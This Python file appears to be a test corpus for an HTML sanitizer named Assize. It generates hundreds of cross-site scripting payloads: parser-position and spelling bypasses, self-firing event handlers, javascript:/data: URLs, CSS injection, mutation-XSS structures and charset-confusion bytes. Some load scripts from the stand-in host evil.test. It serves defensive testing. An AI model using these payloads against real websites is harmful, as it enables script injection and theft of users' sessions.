"""Documents that try to act: to run a script, to reach another server, to take the page with them. Written for Assize.

A script that runs writes WORD to the console; whatever reaches out reaches for HOST.
"""

from itertools import product

WORD = "assize-attack"
HOST = "evil.test"
JS = f"console.log('{WORD}')"
URL = f"http://{HOST}/x"
SCRIPT = f"<script>{JS}</script>"

POSITIONS = {
    "alone": "{s}",
    "head": "<html><head>{s}</head><body>a",
    "before doctype": "{s}<!DOCTYPE html><p>a",
    "after html": "<html><body>a</body></html>{s}",
    "after frameset": "<frameset></frameset>{s}",
    "in noframes": "<frameset><noframes>{s}</noframes></frameset>",
    "in table": "<table>{s}<tr>{s}<td>{s}</table>",
    "in select": "<select>{s}<option>{s}</select>",
    "in button": "<button>{s}</button>",
    "in svg": "<svg>{s}</svg>",
    "in svg as xlink": f"<svg><script xlink:href=data:,{JS} /></svg>",
    "in math": "<math><mtext>{s}</mtext></math>",
    "in noscript": "<noscript>{s}</noscript>",
    "out of noscript": '<noscript><p title="</noscript>{s}">',
    "in template": "<template>{s}</template>",
    "out of style": "<style></style>{s}<style>",
    "out of a style's text": '<style><a title="</style>{s}">',
    "out of title": '<title><a title="</title>{s}">',
    "out of textarea": '<textarea><a title="</textarea>{s}">',
    "out of xmp": '<xmp><p title="</xmp>{s}">',
    "in xmp": "<xmp>{s}</xmp>",
    "in plaintext": "<plaintext>{s}",
    "out of iframe": '<iframe><p title="</iframe>{s}"></iframe>',
    "out of noembed": '<noembed><p title="</noembed>{s}">',
    "out of a comment": "<!-- --!>{s}<!-- -->",
    "out of an odd comment": "<!-->{s}<!-- -->",
    "out of a short comment": "<!--->{s}-->",
    "after a nested comment": "<!-- <!-- -->{s} -->",
    "in a conditional comment": "<!--[if gte IE 4]>{s}<![endif]-->",
    "in a bogus comment": "<!x>{s}<?y>{s}</ z>{s}",
    "in cdata": "<![CDATA[{s}]]>",
    "in svg cdata": "<svg><![CDATA[><image xlink:href=x onerror={j}>]]></svg>",
    "out of an attribute": '<p title="">{s}">a',
    "in marquee": "<marquee>{s}</marquee>",
    "in foreign title": "<svg><title>{s}</title></svg>",
    "in foreignobject": "<svg><foreignObject>{s}</foreignObject></svg>",
    "split": "<scr<script>ipt>{j}</scr</script>ipt>",
    "in object": "<object>{s}</object>",
    "in deep nesting": "<div>" * 200 + "{s}",
}
SPELLINGS = {
    "upper case": f"<SCRIPT>{JS}</SCRIPT>",
    "slash": f"<script/x>{JS}</script>",
    "form feed": f"<script\x0c>{JS}</script\x0c>",
    "tab": f"<script\t>{JS}</script >",
    "never closed": f"<script>{JS}//",
    "nul": f"<scr\x00ipt>{JS}</scr\x00ipt>",
    "module": f"<script type=module>{JS}</script>",
    "vbscript": "<script language=vbscript>msgbox 1</script>",
    "from elsewhere": f"<script src={URL}.js></script>",
    "no scheme": f"<script src=//{HOST}/x.js></script>",
    "data": f"<script src=data:text/javascript,{JS}></script>",
    "wide letters": f"<ſcript>{JS}</ſcript>",
    "import": f"<script type=module>import '{URL}.js'</script>",
    "less than twice": f"<<script>{JS}//<</script>",
    "backtick": f"<img src=`x`onerror={JS}>",
    "no blank": f'<img/src="x"/onerror={JS}>',
    "import map": f'<script type=importmap>{{"imports":{{"a":"{URL}"}}}}</script><script type=module>import "a"</script>',
}
ELEMENTS = ("p", "a href=#", "div", "img src=x alt=a", "table", "font", "b", "form", "td", "custom-name")
EVENTS = [
    "onclick",
    "onmouseover",
    "onmouseenter",
    "onmousedown",
    "onfocus",
    "onblur",
    "onkeydown",
    "onerror",
    "onload",
    "onpointerdown",
    "oncopy",
    "ondrag",
    "onanimationstart",
    "ontransitionend",
    "ontoggle",
    "onscroll",
    "onwheel",
    "onbeforeinput",
    "oncontextmenu",
    "ondblclick",
    "onauxclick",
    "oncontentvisibilityautostatechange",
    "onbeforetoggle",
    "onfocusin",
    "onsecuritypolicyviolation",
]
SELF_FIRING = (
    "<img src=x onerror={j}>",
    "<img src=x onerror={j}//>",
    "<image src=x onerror={j}>",
    "<body onload={j}>",
    "<body onpageshow={j}>",
    "<body onhashchange={j} onresize={j} onunload={j} onbeforeunload={j}>",
    "<p><body onload={j}>",
    "<html onload={j} onfocus={j}>",
    "<svg onload={j}>",
    "<svg/onload={j}>",
    "<svg><g onload={j}></g></svg>",
    "<svg><animate onbegin={j} attributeName=x dur=1s>",
    "<svg><set onbegin={j} attributeName=x>",
    "<svg><image href=x onerror={j}>",
    "<math><mi onclick={j} xlink:href=javascript:{j}>a</mi></math>",
    "<input autofocus onfocus={j}>",
    "<select autofocus onfocus={j}>",
    "<textarea autofocus onfocus={j}></textarea>",
    "<button autofocus onfocus={j}>a</button>",
    "<a href=x autofocus onfocus={j}>a</a>",
    "<p tabindex=1 autofocus onfocus={j}>a",
    "<p contenteditable autofocus onfocus={j}>a",
    "<details open ontoggle={j}>a</details>",
    "<video onerror={j}><source src=x></video>",
    "<video src=x onerror={j}></video>",
    "<audio src=x onerror={j}></audio>",
    "<video autoplay onloadstart={j} src=data:,></video>",
    "<iframe onload={j}></iframe>",
    "<iframe src=about:blank onload={j}></iframe>",
    "<object data=x onerror={j}></object>",
    "<object onload={j} data=data:text/html,a></object>",
    "<embed src=data:text/html,a onload={j}>",
    "<link rel=stylesheet href=data:text/css, onload={j}>",
    "<link rel=stylesheet href=x onerror={j}>",
    "<style onload={j}></style>",
    "<style onload={j}>p{{}}</style>",
    "<script src=x onerror={j}></script>",
    "<marquee onstart={j}>a</marquee>",
    "<marquee loop=1 width=0 onfinish={j}>a</marquee>",
    "<isindex onfocus={j} autofocus>",
    "<keygen autofocus onfocus={j}>",
    "<frameset onload={j}></frameset>",
    "<frameset onpageshow={j}><frame></frameset>",
    "<style>@keyframes k{{}}</style><p style='animation-name:k' onanimationstart={j}>a",
    "<p style='transition:outline 1s' ontransitionend={j} tabindex=1 id=x>a",
    "<input type=image src=x onerror={j}>",
    "<dialog open onclose={j}><form method=dialog><button>a</button></form></dialog>",
    "<template shadowrootmode=open><img src=x onerror={j}></template>",
    "<div><template shadowrootmode=open><img src=x onerror={j}></template></div>",
    "<picture><source srcset=x><img onerror={j}></picture>",
    "<track onerror={j} src=x>",
    "<portal src=x onload={j}>",
    "<bgsound src=x onerror={j}>",
    "<meter onmouseover={j} value=1>a</meter>",
    "<img src=x\nonerror\n=\n{j}>",
    "<img src=x onerror\x0c={j}>",
    "<img src='x' 'onerror={j}>",
    "<img title='a>b' src=x onerror={j}>",
    "<img alt=`<b>` src=x onerror={j}>",
    "<p/onclick={j}/onmouseover={j}>a",
)
CARRIERS = (
    "<a href='{u}'>a</a>",
    "<a href='{u}' target=_top>a</a>",
    "<a xlink:href='{u}'>a</a>",
    "<map name=m><area href='{u}' shape=default></map><img usemap=#m src=x>",
    "<iframe src='{u}'></iframe>",
    "<frameset><frame src='{u}'></frameset>",
    "<form action='{u}' id=f><input type=submit value=a></form>",
    "<form><button formaction='{u}'>a</button></form>",
    "<form><input type=image formaction='{u}' src='{u}'></form>",
    "<isindex action='{u}'>",
    "<object data='{u}'></object>",
    "<object><param name=movie value='{u}'><param name=src value='{u}'></object>",
    "<embed src='{u}'>",
    "<applet code='{u}' codebase='{u}'></applet>",
    "<img src='{u}'>",
    "<img lowsrc='{u}' dynsrc='{u}' longdesc='{u}'>",
    "<img srcset='{u} 1x'>",
    "<picture><source srcset='{u}'><img></picture>",
    "<image src='{u}'>",
    "<input type=image src='{u}'>",
    "<body background='{u}'>a",
    "<table background='{u}'><tr><td background='{u}'>a</table>",
    "<video src='{u}' poster='{u}' autoplay></video>",
    "<audio src='{u}' autoplay></audio>",
    "<video><source src='{u}'><track src='{u}' default></video>",
    "<svg><use href='{u}#a'/></svg>",
    "<svg><image xlink:href='{u}'/></svg>",
    "<svg><a xlink:href='{u}'><text y=20>a</text></a></svg>",
    "<svg><feImage href='{u}'/></svg>",
    "<math href='{u}'><mi>a</mi></math>",
    "<link rel=stylesheet href='{u}'>",
    "<link rel=prefetch href='{u}'><link rel=preload as=image href='{u}'><link rel=dns-prefetch href='{u}'>",
    "<link rel=icon href='{u}'><link rel=import href='{u}'><link rel=manifest href='{u}'>",
    "<link rel=preconnect href='{u}'><link rel=modulepreload href='{u}'><link rel=prerender href='{u}'>",
    "<meta http-equiv=refresh content='0;url={u}'>",
    "<meta http-equiv=Refresh content='0,{u}'>",
    "<base href='{u}'><img src=y><a href=y>a</a>",
    "<html manifest='{u}'>",
    "<q cite='{u}'>a</q><blockquote cite='{u}'>a</blockquote><ins cite='{u}'>a</ins>",
    "<bgsound src='{u}'>",
    "<a href='#' ping='{u}'>a</a>",
    "<iframe srcdoc='<img src={u}>'></iframe>",
    "<button type=submit formaction='{u}' form=f>a</button><form id=f></form>",
    "<script src='{u}'></script>",
    "<style>@import '{u}';</style>",
    "<head profile='{u}'></head>",
)
ADDRESSES = {
    "elsewhere": URL,
    "no scheme": f"//{HOST}/x",
    "script": f"javascript:{JS.replace(chr(39), chr(34))}",
    "entities": "&#106;a&#x76;ascript&colon;" + JS.replace("'", "&quot;"),
}
ODD_ADDRESSES = (
    f"JaVaScRiPt:{JS}", f"java\tscript:{JS}", f"java\nscript:{JS}", f" javascript:{JS}", f"\x01javascript:{JS}",
    f"javascript\x00:{JS}", f"javascript:/*--></title></style>*/{JS}", f"data:text/html,<script>{JS}</script>",
    "data:text/html;base64,PHNjcmlwdD5jb25zb2xlLmxvZygnYXNzaXplLWF0dGFjaycpPC9zY3JpcHQ+", "vbscript:msgbox",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload={JS}/>", f"feed:javascript:{JS}",
    f"view-source:{URL}", f"\\\\{HOST}\\x", f"http:{HOST}/x", f"https://{HOST}/x", f"ws://{HOST}/x",
)  # fmt: skip  # a table of cases, read by the row
STYLES = (
    "background:url({u})", "background-image:url('{u}')", "list-style:url({u})", "list-style-image:url({u})",
    "cursor:url({u}),auto", "border-image:url({u})", "content:url({u})", "filter:url({u}#a)", "mask:url({u})",
    "clip-path:url({u}#a)", "shape-outside:url({u})", "background:image-set(url({u}) 1x)", "background:\\75 rl({u})",
    "background:u\\72l({u})", "background:url(/**/{u})", "background:URL({u})", "--a:url({u});background:var(--a)",
    "width:expression({j})", "behavior:url({u})", "-moz-binding:url({u})", "color:red;}} body{{background:url({u})}}",
    "position:fixed;inset:0;background:url({u})", "font:12px x;src:url({u})", "background:-webkit-cross-fade(url({u}),url({u}),50%)",
)  # fmt: skip  # a table of cases, read by the row
SHEETS = (
    "body{{background:url({u})}}", "@import url({u});", "@import '{u}';", "@font-face{{font-family:a;src:url({u})}}p{{font-family:a}}",
    "p::before{{content:url({u})}}", "@charset 'utf-7';@import '{u}';", "</style><img src=x onerror={j}>",
    "<!--</style><img src=x onerror={j}>-->", "p{{background:url(javascript:{j})}}", "@namespace url({u});",
)  # fmt: skip  # a table of cases, read by the row
MUTATIONS = (
    "<svg></p><style><a id='</style><img src=x onerror={j}>'>",
    "<math></p><style><!--</style><img title='--&gt;&lt;img src=x onerror={j}&gt;'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror={j}&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src=x onerror={j}></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={j}>",
    "<svg><foreignObject><p><style><!--</style><img src=x onerror={j}>-->",
    "<svg><desc><math><style></desc><img src=x onerror={j}>",
    "<svg><annotation-xml encoding='text/html'><img src=x onerror={j}></annotation-xml></svg>",
    "<math><annotation-xml encoding='text/html'><style><img src=x onerror={j}></style></annotation-xml></math>",
    "<noscript><style></noscript><img src=x onerror={j}>",
    "<noscript><!--</noscript><img src=x onerror={j}>-->",
    "<template><form><input name=content></form><img src=x onerror={j}></template>",
    "<xmp></xmp><svg><b><xmp><b title='</xmp><img src=x onerror={j}>'>",
    "<p title='</p><img src=x onerror={j}>'>a",
    '<p title="`><img src=x onerror={j}>">a',
    "<listing>&lt;img src=x onerror={j}&gt;</listing>",
    "<pre>\n\n&lt;img src=x onerror={j}&gt;</pre>",
    "<textarea>&lt;/textarea&gt;&lt;img src=x onerror={j}&gt;</textarea>",
    "<iframe>&lt;/iframe&gt;<img src=x onerror={j}></iframe>",
    "&lt;img src=x onerror={j}&gt;",
    "&amp;lt;img src=x onerror={j}&amp;gt;",
    "<select><svg><style><img src=x onerror={j}></style></svg></select>",
    "<select><template><style><!--</style><img src=x onerror={j}>--></template></select>",
    "<table><caption><svg><title><table><img src=x onerror={j}></table></title></svg></caption></table>",
    "<a><table><a><img src=x onerror={j}></a></table></a>",
    "<b><form><b><form><img src=x onerror={j}></form></b></form></b>",
    "<plaintext><img src=x onerror={j}>",
    "<svg><plaintext></svg><img src=x onerror={j}>",
    "<svg><p><style><g title='</style><img src=x onerror={j}>'>",
    "<svg><script>{j}&lt;/script&gt;</script></svg>",
    "<svg><![CDATA[</svg><img src=x onerror={j}>]]>",
    "<![if true]><img src=x onerror={j}><![endif]>",
    "<?xml-stylesheet href='javascript:{j}'?><p>a",
    "<!DOCTYPE html [<!ENTITY x '<img src=x onerror={j}>'>]><p>&x;",
    "<!DOCTYPE html PUBLIC '\"><img src=x onerror={j}>'><p>a",
    '<o:p onclick={j}>a</o:p><x"y onclick={j}>b',
    "<form id=x><input name=attributes><input name=parentNode></form><img src=x onerror={j}>",
    "<img name=cookie><img name=body src=x onerror={j}><form name=getElementById></form>",
)
FRAMES_AND_FORMS = (
    "<iframe srcdoc='<script>{j}</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;{j}&lt;/script&gt;></iframe>",
    "<iframe src=\"javascript:'<script>{j}</script>'\"></iframe>",
    "<iframe sandbox='allow-scripts allow-same-origin' src='{u}'></iframe>",
    "<iframe name='x' src=about:blank></iframe><a target=x href=javascript:{j}>a</a>",
    "<frameset cols=*><frame src=javascript:{j}></frameset>",
    "<fencedframe src='{u}'></fencedframe><portal src='{u}'></portal>",
    "<meta http-equiv=refresh content='0;javascript:{j}'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>{j}</script>'>",
    "<meta http-equiv=Set-Cookie content='a=b'><meta http-equiv=Content-Security-Policy content='report-uri {u}'>",
    "<meta http-equiv=Link content='<{u}>; rel=stylesheet'><meta http-equiv=Content-Type content='text/html; charset=utf-7'>",
    "<meta name=referrer content=unsafe-url><a href='{u}'>a</a>",
    "<base target=_top><a href='{u}'>a</a>",
    "<base href='javascript:/a/../'><a href='//;{j}'>a</a>",
    "<form action='{u}' target=_top method=post><input name=a value=b><button autofocus>a</button></form>",
    "<form action=javascript:{j}><input type=submit></form>",
    "<input form=x formaction={u} type=submit><form id=x action={u}></form>",
    "<a href='{u}' download target=_blank>a</a>",
    "<a href='{u}' target=_parent style='position:fixed;inset:0'>a</a>",
    "<object type=text/html data='data:text/html,<script>{j}</script>'></object>",
    "<object classid=clsid:a codebase='{u}'></object><applet archive='{u}'></applet>",
    "<embed src='data:image/svg+xml,<svg onload={j}>' type=image/svg+xml>",
)


def _utf7(text: str) -> bytes:
    return text.replace("<", "+ADw-").replace(">", "+AD4-").encode()


ENCODED: dict[str, bytes] = {
    "utf-7 by meta": b"<meta charset=utf-7>" + _utf7(SCRIPT),
    "utf-7 by mark": b"+/v8-" + _utf7(SCRIPT),
    "utf-16": SCRIPT.encode("utf-16"),
    "utf-16 big": b"\xfe\xff" + SCRIPT.encode("utf-16-be"),
    "utf-16 without mark": SCRIPT.encode("utf-16-le"),
    "utf-32": SCRIPT.encode("utf-32"),
    "iso-2022-jp": b"<meta charset=iso-2022-jp><p title='\x1b$B'>'><img src=x onerror=" + JS.encode() + b">\x1b(B",
    "iso-2022-jp yen": b"<meta charset=iso-2022-jp>\x1b(J" + SCRIPT.encode() + b"\x1b(B",
    "shift_jis eats a quote": b"<meta charset=shift_jis><p title='\x81'>a<p title=' onmouseover=" + JS.encode() + b" x='>b",
    "gbk eats a quote": b"<meta charset=gbk><p title=\"\x81\">a<p title=\" onclick=" + JS.encode() + b" \">b",
    "big5": b"<meta charset=big5><p title='\xa1'><img src=x onerror=" + JS.encode() + b">'>",
    "hz": b"<meta charset=hz-gb-2312>~{" + SCRIPT.encode() + b"~}",
    "ebcdic": b"<meta charset=cp037>" + SCRIPT.encode("cp037"),
    "overlong": b"<meta charset=utf-8>\xc0\xbcscript\xc0\xbe" + JS.encode() + b"\xc0\xbc/script\xc0\xbe",
    "x-user-defined": b"<meta charset=x-user-defined>" + SCRIPT.encode(),
    "wide brackets": f"<p>＜script＞{JS}＜/script＞".encode(),
    "nul between": b"\x00".join(bytes([byte]) for byte in SCRIPT.encode()),
    "controls": b"\x01<img\x0bsrc=x\x08onerror=" + JS.encode() + b">",
    "mark inside": "\ufeff<\ufeffscript>".encode() + SCRIPT.encode(),
    "two charsets": b"<meta charset=utf-8><meta charset=utf-7>" + _utf7(SCRIPT),
}  # fmt: skip  # a table of cases, read by the row


def attacks() -> dict[str, bytes]:
    """All of them, by name."""
    quoted = JS.replace("'", "`")
    found = {
        f"script {name}": text.replace("{s}", SCRIPT).replace("{j}", quoted)
        for name, text in POSITIONS.items()
    }
    found |= {f"spelling {name}": text for name, text in SPELLINGS.items()}
    for number, (event, element) in enumerate(product(EVENTS, ELEMENTS)):
        if number % 3 == 0:
            found[f"{event} on {element}"] = f"<{element} {event}={quoted}>a</{element.split()[0]}>"
    found |= _numbered("fires itself", SELF_FIRING)
    for name, address in ADDRESSES.items():
        found |= _numbered(f"address {name}", tuple(text.replace("{u}", address) for text in CARRIERS))
    found |= _numbered(
        "odd address", tuple(f'<a href="{a}">a</a><iframe src="{a}"></iframe>' for a in ODD_ADDRESSES)
    )
    found |= _numbered("inline style", tuple(f'<p style="{text}">a' for text in STYLES))
    found |= _numbered("style sheet", tuple(f"<style>{text}</style><p>a" for text in SHEETS))
    found |= _numbered("mutation", MUTATIONS)
    found |= _numbered("frame or form", FRAMES_AND_FORMS)
    return {name: text.encode() for name, text in found.items()} | {
        f"encoded {n}": data for n, data in ENCODED.items()
    }


def _numbered(kind: str, texts: tuple[str, ...]) -> dict[str, str]:
    filled = (_filled(text) for text in texts)
    return {f"{kind} {number}": text for number, text in enumerate(filled, start=1)}


def _filled(text: str) -> str:
    text = text.replace("{u}", URL).replace("{j}", JS.replace("'", "`"))
    return text.replace("{{", "{").replace("}}", "}")
